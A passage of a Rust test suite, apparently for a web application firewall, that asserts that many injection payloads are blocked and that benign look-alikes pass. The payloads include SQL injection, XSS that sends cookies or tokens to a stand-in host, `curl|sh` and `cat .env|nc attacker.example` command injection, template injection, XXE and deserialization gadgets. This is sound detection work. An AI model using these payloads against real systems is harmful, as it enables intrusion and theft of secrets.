    let inspect = |coding: &str, body: Vec<u8>| {
        let headers = vec![
            ("Host".to_owned(), "app.example".to_owned()),
            ("User-Agent".to_owned(), UA.to_owned()),
            ("Content-Type".to_owned(), "application/json".to_owned()),
            ("Content-Encoding".to_owned(), coding.to_owned()),
        ];
        let req = Request::from_parts("POST", "/api", headers, body, e.limits()).expect("request");
        e.inspect(&req, None)
    };
    let gz = |b: &[u8]| {
        let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        g.write_all(b).unwrap();
        g.finish().unwrap()
    };
    let attack = br#"{"q":"' union select password from users--"}"#;
    let v = inspect("gzip", gz(attack));
    assert_eq!(v.action, Action::Block, "{v:?}");
    assert!(kinds(&v).contains(&Kind::Sqli), "{v:?}");
    // A benign compressed beacon passes, and its text was read (a clean
    // verdict with no protocol finding about its coding).
    let v = inspect("gzip", gz(br#"{"event":"view","page":"/home"}"#));
    assert_eq!(v.action, Action::Pass, "{v:?}");
    assert!(
        v.attacks
            .iter()
            .all(|f| f.kind == Kind::Protocol && !f.rule.contains("encoding")),
        "{v:?}"
    );
    // A coding the inspector cannot undo is refused, never passed unread.
    let v = inspect("br", attack.to_vec());
    assert_eq!(v.action, Action::Block, "{v:?}");
    // A payload behind more zeros than max_body decompresses to is never
    // passed unread either: the body is refused.
    let mut padded = vec![b' '; e.limits().max_body + 10];
    padded.extend_from_slice(attack);
    let small = gz(&padded);
    assert!(small.len() < e.limits().max_body / 100);
    let v = inspect("gzip", small);
    assert_eq!(v.action, Action::Block, "{v:?}");
    assert!(
        v.attacks
            .iter()
            .any(|f| f.rule == "protocol-content-encoding-overflow"),
        "{v:?}"
    );
}

#[test]
fn a_payload_past_the_parameter_limit_is_never_passed_unseen() {
    let e = default_engine();
    let payload = "%27%20union%20select%20password%20from%20users--";
    let many: Vec<String> = (0..1100).map(|i| format!("k{i}=1")).collect();
    let v = post(
        e,
        "/f",
        "application/x-www-form-urlencoded",
        &format!("{}&v={payload}", many.join("&")),
    );
    assert_eq!(v.action, Action::Block, "form: {v:?}");
    let v = get(e, &format!("/s?{}&v={payload}", many.join("&")));
    assert_eq!(v.action, Action::Block, "query: {v:?}");
    let headers = vec![
        ("Host".to_owned(), "app.example".to_owned()),
        ("User-Agent".to_owned(), UA.to_owned()),
        (
            "Cookie".to_owned(),
            format!("{}; v={payload}", many.join("; ")),
        ),
    ];
    let req = Request::from_parts("GET", "/", headers, Vec::new(), e.limits()).expect("request");
    let v = e.inspect(&req, None);
    assert_eq!(v.action, Action::Block, "cookies: {v:?}");
}

/// A PHP function named by pieces joined with `.` and called at once
/// (`(sy.(st).em)(@id)`: PHP reads the bare pieces as strings) blocks in a
/// query, a form and a JSON body; text with parentheses after parentheses
/// passes.
#[test]
fn php_function_names_assembled_from_pieces_block() {
    let e = default_engine();
    let q = "/get?code=(sy.(st).em)(%40id)";
    assert_blocks_with(&get(e, q), "php-assembled-call", q);
    let form = "c=%28%22pass%22+.+%22thru%22%29%28%27ls%27%29";
    let v = post(e, "/f", "application/x-www-form-urlencoded", form);
    assert_eq!(v.action, Action::Block, "{:?}", v.attacks);
    let v = post(
        e,
        "/f",
        "application/json",
        r#"{"c":"(ex.(ec))($_GET[1])"}"#,
    );
    assert_eq!(v.action, Action::Block, "{:?}", v.attacks);
    // PHP reads any whitespace between the pieces, line breaks too.
    let q = "/get?code=(sy%0a.%0a(st)%0d%0a.em)(%40id)";
    assert_blocks_with(&get(e, q), "php-assembled-call", q);
    for q in [
        "see+(p.+4)(table+2)",
        "(v2.1)(beta)",
        "(a.b)(c)",
        "(e.g.+system)(x)",
    ] {
        let v = get(e, &format!("/get?q={q}"));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
}

/// Mail header injection blocks: a Bcc line with an address, or an
/// address field whose address a header line follows, in a query, a form
/// and a JSON body; a letter's `To:` and `cc:` lines in prose pass.
#[test]
fn mail_header_injection_blocks_and_letters_pass() {
    let e = default_engine();
    for q in [
        "email=a%40b.example%0ABcc:%20victim%40c.example",
        "subject=Hello%0D%0ABcc:victim%40c.example,x%40d.example",
        "from=me%40x.example%0D%0ATo:%20a%40b.example",
    ] {
        assert_blocks_with(&get(e, &format!("/contact?{q}")), "crlf-mail-header", q);
    }
    let form = "name=Bob&email=bob%40x.example%0D%0ACc%3A+list%40evil.example";
    let v = post(e, "/contact", "application/x-www-form-urlencoded", form);
    assert_eq!(v.action, Action::Block, "{:?}", v.attacks);
    let json = r#"{"subject":"hi\nBcc: all@evil.example"}"#;
    let v = post(e, "/contact", "application/json", json);
    assert_eq!(v.action, Action::Block, "{:?}", v.attacks);
    for q in [
        "msg=Hello%20team%0ACc:%20bob%40example.com",
        "msg=To:%20support%0D%0ASubject:%20refund%0D%0A%0D%0AHello",
        "email=alice%40example.com",
        "msg=please%20bcc%20me%0Athanks",
    ] {
        let v = get(e, &format!("/contact?{q}"));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
}

/// A short multipart field (no file name) with a NUL is a payload with an
/// evasion, not binary data: `*))\0` and `';\x0bDROP...` block as they do
/// in a query; a longer binary field without a payload passes.
#[test]
fn short_multipart_fields_with_control_bytes_are_read_as_text() {
    let e = default_engine();
    let part = |value: &str| {
        format!(
            "--XB\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\n{value}\r\n\
             --XB\r\nContent-Disposition: form-data; name=\"submit\"\r\n\r\nSend\r\n--XB--\r\n"
        )
    };
    let ct = "multipart/form-data; boundary=XB";
    for value in ["*))\0", "';\u{b}DROP\u{b}TABLE\u{b}users;\u{b}--"] {
        let v = post(e, "/submit", ct, &part(value));
        assert_eq!(v.action, Action::Block, "{value:?}: {:?}", v.attacks);
    }
    let blob: String = (0u8..40).map(|b| char::from(b % 7 + 1)).collect();
    let v = post(e, "/submit", ct, &part(&blob));
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

#[test]
fn short_raw_bodies_with_control_bytes_are_read_as_text() {
    // A body of a type no parser reads is text or binary data by the same
    // bound as a multipart field: a short one with a NUL is a payload.
    let e = default_engine();
    let ct = "application/octet-stream";
    for value in ["*))\0", "';\u{b}DROP\u{b}TABLE\u{b}users;\u{b}--"] {
        let v = post(e, "/upload", ct, value);
        assert_eq!(v.action, Action::Block, "{value:?}: {:?}", v.attacks);
    }
    // Binary data of 32 bytes or more meets only the rules for files.
    let blob: String = (0u8..40).map(|b| char::from(b % 7 + 1)).collect();
    let v = post(e, "/upload", ct, &format!("{blob}*))"));
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

#[test]
fn a_number_then_a_boolean_literal_blocks_and_prose_passes() {
    // Boolean-based blind injection in a numeric context: the query reads
    // `WHERE id = 1 OR TRUE`.
    let e = default_engine();
    for q in [
        "1%20OR%20TRUE",
        "2)%20and%20not%20false--%20-",
        "1||true",
        "7%20xor%20true%23",
        "1.0%20or%20true",
        "0x1%20or%20true",
        "1e0%20and%20false",
    ] {
        assert_blocks_with(&get(e, &format!("/item?id={q}")), "sqli-number-boolean", q);
    }
    for q in [
        "Top+10+and+true+crime+podcasts",
        "is+1+or+true+the+same+in+JavaScript%3F",
        "1+or+2+drinks",
        "true+or+false",
    ] {
        let v = get(e, &format!("/search?q={q}"));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
}

/// Values the SQL tokenizer reads before a payload only libinjection
/// catches never turn it off: a long note (the old budget was bytes),
/// and more such values than a request may have (the budget in runs)
/// block the request themselves.
#[test]
fn padding_before_a_payload_never_turns_the_tokenizers_off() {
    let e = default_engine();
    let payload = "1 AND (SELECT password FROM users LIMIT 1) LIKE 'a%'";
    let alone = post(
        e,
        "/api",
        "application/json",
        &json!({ "id": payload }).to_string(),
    );
    assert_blocks_with(&alone, "sqli-libinjection", "alone");
    let note = "It's a long note. ".repeat(4000)[..65_500].to_owned();
    let body = json!({ "note": note, "id": payload }).to_string();
    let v = post(e, "/api", "application/json", &body);
    assert_blocks_with(&v, "sqli-libinjection", "after a 64 kB note");
    // 64 kB of padding inside the value, before the payload.
    let padded = format!("{}{payload}", "1".repeat(70_000));
    let v = post(
        e,
        "/api",
        "application/json",
        &json!({ "id": padded }).to_string(),
    );
    assert_blocks_with(&v, "sqli-libinjection", "after 70 kB of padding");
    // 200 fields of a few hundred bytes each, in a form.
    let field = "it's ".repeat(66);
    let form: Vec<String> = (0..200).map(|i| format!("f{i}={field}")).collect();
    let body = format!("{}&id={}", form.join("&"), payload.replace(' ', "+"));
    let v = post(e, "/f", "application/x-www-form-urlencoded", &body);
    assert_blocks_with(&v, "sqli-libinjection", "after 200 form fields");
    // Past the count of runs: the request blocks on the limit.
    let many: Vec<String> = (0..TOKENIZER_BUDGET).map(|i| format!("it's {i}")).collect();
    let body = json!({ "notes": many, "id": payload }).to_string();
    let v = post(e, "/api", "application/json", &body);
    assert_blocks_with(&v, TOKENIZER_LIMIT_RULE, "past the count");
    // Just under it, benign values alone pass.
    let many: Vec<String> = (0..TOKENIZER_BUDGET).map(|i| format!("it's {i}")).collect();
    let v = post(e, "/api", "application/json", &json!(many).to_string());
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

/// Every byte but letters and digits percent-encoded.
fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Each shape blocks with its rule in a query and a JSON body, and each
/// look-alike passes in a query.
fn assert_shapes(rule: &str, attacks: &[&str], lookalikes: &[&str]) {
    let e = default_engine();
    for a in attacks {
        let q = pct(a);
        assert_blocks_with(&get(e, &format!("/a?x={q}")), rule, a);
        let body = json!({ "x": a }).to_string();
        assert_blocks_with(&post(e, "/a", "application/json", &body), rule, a);
    }
    for l in lookalikes {
        let q = pct(l);
        let v = get(e, &format!("/a?x={q}"));
        assert_eq!(v.action, Action::Pass, "{l}: {:?}", v.attacks);
    }
}

/// A number, a logical operator and a condition on a column: a blind
/// injection in a numeric parameter, without quotes.
#[test]
fn a_number_then_a_condition_on_a_column_blocks_and_prose_passes() {
    assert_shapes(
        "sqli-number-condition",
        &[
            "1 AND password>0x6d",
            "1 AND password LIKE 0x6125",
            "1 AND password GLOB 'a*'",
            "1 AND`password`>0x6d",
            "1/**/AND/**/users.password>x'6d'",
            "1\nAND\npassword ILIKE 'a%'",
            "0 OR id>0",
            "1 AND is_admin=1",
            "1 AND length(password) BETWEEN 1 AND 10",
            "1 AND 2 IN (1,2)",
            "1 AND NULL IS NULL",
        ],
        &[
            "flags and mask>0x10",
            "score 0 or rank>0",
            "10 or fewer between 5 and 9",
            "2023 and 2024 between us and them",
            "2 or more items in (stock)",
            "1 or 2 (maybe 3)",
            "4 and the rest > 3",
        ],
    );
}

/// A break out of a JavaScript string into a call and back.
#[test]
fn a_javascript_string_breakout_blocks_and_prose_passes() {
    assert_shapes(
        "xss-js-string-breakout",
        &[
            "'-setTimeout(name)-'",
            "'?Function(name)():'",
            "'-[].map.constructor(name)()-'",
            "\")||fetch('//x.example/'+document.cookie)||(\"",
            "'+navigator.sendBeacon('//x.example',localStorage.token)+'",
        ],
        &[
            "don't-setTimeout(name)-again",
            "call setTimeout(name) later",
            "\"Hello\" - said(me) - \"ok\"",
            "'quoted' - text (with parens) - 'more'",
        ],
    );
}

/// Apache Commons Text lookups that run code, read files or URLs, or
/// resolve names (Text4Shell).
#[test]
fn commons_text_lookups_block_and_shell_expansions_pass() {
    assert_shapes(
        "text4shell-lookup",
        &[
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "${file:UTF-8:/etc/passwd}",
            "${url:UTF-8:http://x.example/}",
            "${dns:address|x.example}",
        ],
        &["${url}", "${file}", "${url:0:5}", "${file.encoding}"],
    );
}

/// ERB tags that open files or processes, read the environment or the
/// application's secrets.
#[test]
fn erb_tags_that_reach_the_system_block_and_views_pass() {
    assert_shapes(
        "ssti-expression",
        &[
            "<%= open('|id').read %>",
            "<%= spawn 'id' %>",
            "<%= ENV['SECRET_KEY_BASE'] %>",
            "<%= Rails.application.secrets.secret_key_base %>",
            "<%= Marshal.load(params[:x]) %>",
            "{{settings.SECRET_KEY}}",
        ],
        &[
            "<%= user.name %>",
            "<%= link_to 'Home', root_path %>",
            "<%= open_graph_tags %>",
            "<%= spawn_point %>",
        ],
    );
}

/// Commands no list had after a separator, and a delay after a line
/// break or `&`.
#[test]
fn more_commands_and_delays_after_separators_block() {
    assert_shapes(
        "cmdi-separator-command",
        &[
            "; msbuild x.xml",
            "| msiexec /q /i http://x.example/a.msi",
            "& psql -h x",
        ],
        &["see you; calc later", "lunch; start at noon"],
    );
    assert_shapes(
        "cmdi-pipe-recon",
        &["8.8.8.8\nsleep 5", "a&sleep 5", "a && sleep 5"],
        &["tom & jerry sleep 8 hours"],
    );
    // Windows' proof-of-concept programs, at the end of the value or
    // before another command; in prose they go on.
    assert_shapes(
        "cmdi-hard-separator-command",
        &[
            "127.0.0.1; calc",
            ";calc.exe",
            "a && notepad.exe",
            "x; mspaint &",
        ],
        &[
            "LibreOffice Calc; notepad++ or mspaint",
            "see you; calc later",
        ],
    );
}

/// JSON, XML and form bodies in UTF-16, UTF-32 or EBCDIC (which JSON and
/// XML readers detect and decode by themselves) block, whatever the
/// Content-Type says.
#[test]
fn wide_charset_bodies_block() {
    let e = default_engine();
    let utf16le = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(u16::to_le_bytes).collect() };
    let json = r#"{"id":"1 union select password from users","c":"$(curl x.example|sh)"}"#;
    let xml =
        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    let mut bom = vec![0xFE, 0xFF];
    bom.extend(json.encode_utf16().flat_map(u16::to_be_bytes));
    for (ct, body) in [
        ("application/json", utf16le(json)),
        ("application/json", bom),
        ("text/xml", utf16le(xml)),
        ("application/xml", vec![0x4C, 0x6F, 0xA7, 0x94, 0x93, 0x40]),
    ] {
        let headers = vec![
            ("Host".to_owned(), "app.example".to_owned()),
            ("User-Agent".to_owned(), UA.to_owned()),
            ("Content-Type".to_owned(), ct.to_owned()),
        ];
        let req = Request::from_parts("POST", "/a", headers, body, e.limits()).expect("request");
        assert_blocks_with(&e.inspect(&req, None), "protocol-charset-evasion", ct);
    }
}

/// Deserialization markers in JSON bodies: jsonpickle's tags, Jackson's
/// gadget classes and H2's script URL, MongoDB operators a login form
/// never sends; PHP's object with a signed length. A .NET `$type` passes.
#[test]
fn json_gadgets_and_operators_block() {
    let e = default_engine();
    for (body, rule) in [
        (
            r#"{"a":{"py/object":"os.system","py/newargs":["id"]}}"#,
            "python-jsonpickle",
        ),
        (
            r#"{"py/reduce":[{"py/function":"os.system"},["id"]]}"#,
            "python-jsonpickle",
        ),
        (
            r#"["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]"#,
            "java-jackson-gadget",
        ),
        (
            r#"{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'"}"#,
            "java-jackson-gadget",
        ),
        (
            r#"{"username":"admin","password":{"$size":0}}"#,
            "nosql-operator-name",
        ),
        (r#"{"n":{"$mod":[1,0]}}"#, "nosql-operator-name"),
    ] {
        assert_blocks_with(&post(e, "/api", "application/json", body), rule, body);
    }
    let v = post(
        e,
        "/f",
        "application/x-www-form-urlencoded",
        "d=O:%2B8:\"stdClass\":0:{}",
    );
    assert_blocks_with(&v, "php-serialized-object", "O:+8");
    let v = post(
        e,
        "/api",
        "application/json",
        r#"{"$type":"MyApp.Models.Order, MyApp","id":3}"#,
    );
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

/// Command substitution and template expressions in an uploaded file's
/// name (applications hand names to shells and templates); ordinary names
/// pass.
#[test]
fn commands_and_templates_in_upload_names_block() {
    let e = default_engine();
    let upload = |name: &str| {
        let body = format!(
            "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
             Content-Type: image/jpeg\r\n\r\nx\r\n--b1--\r\n"
        );
        post(e, "/up", "multipart/form-data; boundary=b1", &body)
    };
    for (name, rule) in [
        ("$(curl x.example|sh).jpg", "cmdi-substitution-command"),
        ("`id`.png", "cmdi-hard-separator-command"),
        ("a$(sleep 5).jpg", "cmdi-substitution-command"),
        ("{{7*7}}.jpg", "ssti-expression"),
    ] {
        assert_blocks_with(&upload(name), rule, name);
    }
    for name in [
        "photo (1).jpg",
        "budget 2024 & plans.xlsx",
        "holiday photo.png",
    ] {
        let v = upload(name);
        assert_eq!(v.action, Action::Pass, "{name}: {:?}", v.attacks);
    }
}

/// Response headers injected after a line break: caching, authentication
/// and preload headers too; a link in a comment passes.
#[test]
fn more_injected_response_headers_block() {
    let e = default_engine();
    for q in [
        "%0d%0aCache-Control:public",
        "%0d%0aSet-Cookie2:a=b",
        "%0d%0aLink:%3C//x.example%3E;rel=preload",
        "%0d%0aWWW-Authenticate:Basic",
    ] {
        assert_blocks_with(&get(e, &format!("/a?r={q}")), "crlf-header-injection", q);
    }
    let v = get(e, "/a?r=Check%20this%0d%0aLink:%20https://example.com");
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

/// The second review's holes: charsets named where the first bytes do not
/// show them, XML text split by comments, numeric conditions after an
/// expression, shell variables as commands, more lookups, ERB and Django
/// secrets, JDBC and jsonpickle shapes, endpoints behind path tricks,
/// injected request headers.
#[test]
fn second_review_holes_block() {
    let e = default_engine();
    let xxe = r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    for (ct, body, rule) in [
        (
            "application/xml",
            format!(r#"<?xml version="1.0" encoding="UTF-16LE"?>{xxe}"#),
            "protocol-charset-evasion",
        ),
        (
            "text/xml",
            format!(r#"<?xml version="1.0" encoding="UTF-7"?>{xxe}"#),
            "protocol-charset-evasion",
        ),
        (
            "application/x-www-form-urlencoded; charset*=''utf-7",
            "q=1".to_owned(),
            "protocol-charset-evasion",
        ),
        (
            "application/x-www-form-urlencoded; x=\\\"; charset=utf-7",
            "q=1".to_owned(),
            "protocol-charset-evasion",
        ),
        (
            "application/xml",
            "<q>1' un<!---->ion sel<!---->ect password from users--</q>".to_owned(),
            "sqli-union-select",
        ),
    ] {
        assert_blocks_with(&post(e, "/a", ct, &body), rule, ct);
    }
    for (q, rule) in [
        ("1-0 and password>0x6d", "sqli-number-condition"),
        ("1e0 and password>0x6d", "sqli-number-condition"),
        ("~1 and password>0x6d", "sqli-number-condition"),
        ("1 and password ~* '^a'", "sqli-number-condition"),
        (";a=cu;b=rl;$a$b x.example|$0", "cmdi-parameter-expansion"),
        ("x|$0 -c id", "cmdi-parameter-expansion"),
        ("127.0.0.1|id", "cmdi-pipe-recon"),
        ("127.0.0.1&id", "cmdi-pipe-recon"),
        (
            "<%= Object.const_get('K'+'ernel').method('sys'+'tem').call('id') %>",
            "ssti-expression",
        ),
        ("{{messages.storages.0.signer.key}}", "ssti-expression"),
        ("${base64Decoder:JHtzY3JpcHQ6anM6MX0=}", "text4shell-lookup"),
        (
            "${xml:/usr/local/tomcat/conf/tomcat-users.xml:/tomcat-users/user[1]/@password}",
            "text4shell-lookup",
        ),
        (
            "jdbc:mysql://x.example:3306/t?autoDeserialize=true&queryInterceptors=a",
            "java-jackson-gadget",
        ),
        (
            r#"{"py\/reduce":[{"py\/function":"os.system"}]}"#,
            "python-jsonpickle",
        ),
        ("x\nStatus: 302", "crlf-header-injection"),
        ("x\r\nHost: evil.example.com", "crlf-header-injection"),
        ("x\r\nAuthorization: Basic YTpi", "crlf-header-injection"),
    ] {
        assert_blocks_with(&get(e, &format!("/a?x={}", pct(q))), rule, q);
    }
    for path in [
        "/actuator;/env",
        "/actuator//heapdump",
        "/actuator/./gateway/routes",
    ] {
        assert_blocks_with(&get(e, path), "lfi-private-endpoint", path);
    }
    for l in [
        "1-0 and counting",
        "id and password are required",
        "costs $0 - cheap",
        "127.0.0.1|web01",
        "jdbc:mysql://db:3306/app?useSSL=false",
        "Thanks\nHost: John Smith",
        "Order 55\nStatus: shipped",
    ] {
        let v = get(e, &format!("/a?x={}", pct(l)));
        assert_eq!(v.action, Action::Pass, "{l}: {:?}", v.attacks);
    }
    // The same charset forms in a multipart part's Content-Type.
    for ct in [
        "text/plain; charset*=''utf-7",
        "text/plain; x=\\\"; charset=utf-7",
    ] {
        let body = format!(
            "--b1\r\nContent-Disposition: form-data; name=\"q\"\r\n\
             Content-Type: {ct}\r\n\r\n+ADw-script+AD4-\r\n--b1--\r\n"
        );
        let v = post(e, "/up", "multipart/form-data; boundary=b1", &body);
        assert_blocks_with(&v, "protocol-multipart-charset", ct);
    }
    let v = get(e, "/shop;jsessionid=ABC/cart");
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

/// Inspects a GET with one more header.
fn get_with(e: &Engine, target: &str, name: &str, value: &str) -> Verdict {
    let headers = vec![
        ("Host".to_owned(), "app.example".to_owned()),
        ("User-Agent".to_owned(), UA.to_owned()),
        (name.to_owned(), value.to_owned()),
    ];
    let req = Request::from_parts("GET", target, headers, Vec::new(), e.limits()).expect("request");
    e.inspect(&req, None)
}

/// A multipart body of one part with these Content-Disposition parameters
/// and Content-Type.
fn one_part(disposition: &str, content_type: &str, data: &str) -> String {
    format!(
        "--b1\r\nContent-Disposition: form-data; {disposition}\r\n\
         Content-Type: {content_type}\r\n\r\n{data}\r\n--b1--\r\n"
    )
}

/// A JSON document inside a value (a query parameter, a cookie, a header,
/// a string of a JSON body, a multipart part typed JSON even when sent as
/// a file) is read as the application reads it: each string alone. Only
/// the SQL tokenizer catches this payload, and only without the
/// document's syntax around it.
#[test]
fn documents_inside_values_are_read_as_documents() {
    let e = default_engine();
    let sqli = "1 AND (SELECT password FROM users LIMIT 1) LIKE 'a%'";
    let doc = json!({ "q": sqli, "page": 1 }).to_string();
    let in_query = get(e, &format!("/a?filter={}", pct(&doc)));
    assert_blocks_with(&in_query, "sqli-libinjection", "query");
    assert!(
        in_query
            .attacks
            .iter()
            .any(|a| a.location == "query:filter(json $.q)"),
        "{:?}",
        in_query.attacks
    );
    for (name, value) in [
        ("Cookie", format!("prefs={}", pct(&doc))),
        ("X-Search", doc.clone()),
    ] {
        assert_blocks_with(&get_with(e, "/a", name, &value), "sqli-libinjection", name);
    }
    let nested = json!({ "data": doc }).to_string();
    assert_blocks_with(
        &post(e, "/a", "application/json", &nested),
        "sqli-libinjection",
        "JSON in a JSON string",
    );
    let mp = "multipart/form-data; boundary=b1";
    for (disposition, ct, data) in [
        ("name=\"meta\"", "application/json", doc.clone()),
        (
            "name=\"meta\"; filename=\"blob\"",
            "application/json",
            doc.clone(),
        ),
        (
            "name=\"meta\"; filename=\"a.xml\"",
            "application/xml",
            format!("<a><q>{}</q></a>", sqli.replace('\'', "&apos;")),
        ),
    ] {
        let v = post(e, "/up", mp, &one_part(disposition, ct, &data));
        assert_blocks_with(&v, "sqli-libinjection", disposition);
    }
    // A review's bypasses: SQL split across a JSON value's strings (an
    // application that pastes the raw value reads it whole); a JSON file
    // part that Jackson reads past a byte order mark or before trailing
    // text; a line comment that a lenient reader ends at a CR.
    let split = r#"["x'or","<>password&&password like'a%'or'"]"#;
    assert_blocks_with(
        &get(e, &format!("/a?name={}", pct(split))),
        "sqli-libinjection",
        "split",
    );
    for data in [format!("\u{feff}{doc}"), format!("{doc} ]")] {
        let body = one_part(
            "name=\"meta\"; filename=\"blob\"",
            "application/json",
            &data,
        );
        assert_blocks_with(&post(e, "/up", mp, &body), "sqli-libinjection", &data);
    }
    for end in ["\r", "\u{2028}"] {
        let body = format!("{{\"a\":\"b\" // x{end}, \"q\":\"<script>alert(1)</script>\" // y\n}}");
        assert_blocks_with(
            &post(e, "/a", "application/json", &body),
            "xss-script-tag",
            end,
        );
    }
    // The same documents with benign strings pass, and so does a file of
    // another type holding the payload's text (file contents meet the
    // file rules, not the parameter ones).
    let benign = json!({ "q": "O'Brien and sons", "tags": ["a", "b"] }).to_string();
    for v in [
        get(e, &format!("/a?filter={}", pct(&benign))),
        get_with(e, "/a", "Cookie", &format!("prefs={}", pct(&benign))),
        post(
            e,
            "/a",
            "application/json",
            &json!({ "data": benign }).to_string(),
        ),
        post(
            e,
            "/up",
            mp,
            &one_part(
                "name=\"meta\"; filename=\"blob\"",
                "application/json",
                &benign,
            ),
        ),
        post(
            e,
            "/up",
            mp,
            &one_part("name=\"f\"; filename=\"notes.txt\"", "text/plain", sqli),
        ),
    ] {
        assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
    }
}

/// A part that names two fields, or two files: parsers read different
/// ones (busboy the first, PHP and Werkzeug the last), so two names block
/// and every file name is inspected. A CIDR's prefix length is no path
/// after a loopback address.
#[test]
fn ambiguous_parts_and_cidr_values() {
    let e = default_engine();
    let mp = "multipart/form-data; boundary=b1";
    for disposition in [
        "name=\"f\"; filename=\"a.jpg\"; filename=\"a.php\"",
        "name=\"f\"; filename=\"a.php\"; filename=\"a.jpg\"",
    ] {
        let v = post(e, "/up", mp, &one_part(disposition, "image/jpeg", "GIF89a"));
        assert_blocks_with(&v, "upload-script-name", disposition);
    }
    let v = post(
        e,
        "/up",
        mp,
        &one_part("name=\"comment\"; name=\"id\"", "text/plain", "x"),
    );
    assert_blocks_with(&v, "protocol-multipart-malformed", "two names");
    let body = "--b1\r\nContent-Disposition: form-data; name=\"meta\"; filename=\"blob\"\r\n\
                Content-Type: application/json\r\nContent-Type: text/plain\r\n\r\n{}\r\n--b1--\r\n";
    assert_blocks_with(
        &post(e, "/up", mp, body),
        "protocol-multipart-malformed",
        "two types",
    );
    let v = post(
        e,
        "/up",
        mp,
        &one_part(
            "name=\"f\"; filename=\"a.jpg\"; filename=\"a.jpg\"",
            "image/jpeg",
            "GIF89a",
        ),
    );
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
    for cidr in ["0.0.0.0/0", "127.0.0.0/8", "::1/128"] {
        let v = get(e, &format!("/a?cidr={}", pct(cidr)));
        assert_eq!(v.action, Action::Pass, "{cidr}: {:?}", v.attacks);
    }
    for url in ["127.0.0.1/admin", "0.0.0.0/129", "localhost/8"] {
        assert_blocks_with(&get(e, &format!("/a?u={}", pct(url))), "ssrf-loopback", url);
    }
}

/// The fourth red-team round's bypass classes, each with benign text of
/// the same shape that passes.
#[test]
fn fourth_review_bypasses_block_and_their_look_alikes_pass() {
    let e = default_engine();
    let mp = "multipart/form-data; boundary=b1";
    // A field dressed as a file: a bare `filename`, or a second
    // disposition naming a file. PHP and Werkzeug read a field.
    let sqli = "-1 UNION SELECT username,password FROM users-- -";
    for head in [
        "Content-Disposition: form-data; name=\"id\"; filename",
        "Content-Disposition: form-data; name=\"id\"\r\nContent-Disposition: form-data; name=\"id\"; filename=\"a.txt\"",
    ] {
        let body = format!("--b1\r\n{head}\r\n\r\n{sqli}\r\n--b1--\r\n");
        let v = post(e, "/item.php", mp, &body);
        assert_blocks_with(&v, "sqli-union-select", head);
        assert_blocks_with(&v, "protocol-multipart-malformed", head);
    }
    let blocked =
        |q: &str, rule: &str| assert_blocks_with(&get(e, &format!("/a?q={}", pct(q))), rule, q);
    let passes = |q: &str| {
        let v = get(e, &format!("/a?q={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    };
    // MySQL's DISTINCTROW and TABLE statement.
    blocked(
        "-1 union distinctrow select username,password from users",
        "sqli-union-select",
    );
    blocked(
        "x' union distinctrow select 1,database() where '1",
        "sqli-union-select",
    );
    blocked("-1 union table users", "sqli-union-select");
    passes("European Union table tennis");
    // A command on a file of the working directory.
    for q in [
        "127.0.0.1;cat config.php",
        "127.0.0.1;cat .env|nc attacker.example 80",
        "127.0.0.1\nrm index.php",
        "127.0.0.1 & type web.config",
        "x|python s.py",
    ] {
        blocked(q, "cmdi-hard-separator-command");
    }
    blocked(
        "127.0.0.1; Get-Content web.config",
        "cmdi-separator-command",
    );
    passes("Bring snacks; cat food.txt is attached");
    passes("notes: read README.md first");
    // Bash ANSI-C strings in octal.
    blocked("127.0.0.1;$'\\151\\144'", "cmdi-hard-separator-command");
    blocked(
        "x;eval $'\\142\\141\\163\\150\\40\\55\\151'",
        "cmdi-substitution",
    );
    passes("costs $'\\12 each");
    // A JS string closed inside an object or array literal.
    blocked("'};location=name;{'", "xss-js-string-breakout");
    blocked("'];eval(name);['", "xss-js-string-breakout");
    passes("It's '}; fine");
    // A subquery concatenated to a string (Oracle, PostgreSQL).
    blocked(
        "x'||(SELECT CASE WHEN (username='administrator') THEN TO_CHAR(1/0) ELSE '' END FROM users)||'",
        "sqli-subquery",
    );
    // A backslash before the userinfo: urllib reaches the last host.
    blocked("http://e.com\\@127.0.0.1:6379/", "ssrf-loopback");
    // Rich text's inline styles, and stack traces, pass.
    for q in [
        "<p style=\"color: red\">Red</p>",
        "<b style=\"font-weight:normal;\" id=\"docs-internal-guid-abc\"><span style=\"font-size:11pt;font-family:Arial\">Text</span></b>",
        "at java.lang.Thread.run(Thread.java:750)",
        "{\"module\":\"java.lang.Thread\",\"function\":\"run\"}",
    ] {
        passes(q);
    }
    blocked(
        "<p style=\"color:red\" onmouseover=\"alert(1)\">x</p>",
        "xss-libinjection",
    );
    blocked("T(java.lang.Thread).sleep(5000)", "java-class");
    blocked("java.lang.Integer", "java-class");
    // .NET Razor templates that reach the runtime.
    blocked(
        "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\");}",
        "ssti-template-tag",
    );
    blocked(
        "@System.Environment.GetEnvironmentVariable(\"ConnectionStrings__Default\")",
        "ssti-template-tag",
    );
    passes("mail support@system.io today");
